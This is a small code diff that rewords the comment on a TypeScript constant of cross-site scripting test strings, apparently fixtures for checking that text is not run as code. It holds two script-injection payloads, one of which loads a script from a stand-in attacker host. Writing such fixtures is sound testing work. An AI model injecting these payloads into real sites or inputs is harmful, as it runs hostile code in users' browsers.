@@ -1,4 +1,4 @@
-/** Texts that would do something where a screen, a file or a mail took them for more than text; `alert` is what is watched. */
+/** Texts that call `alert` or load something if a screen, file or mail treats them as code. */
 export const SCRIPT_TEXTS: Readonly<Record<string, string>> = {
   'a script': '<script>alert(1)</script>',
   'a script from elsewhere': '<script src=//evil.test/x.js></script>',
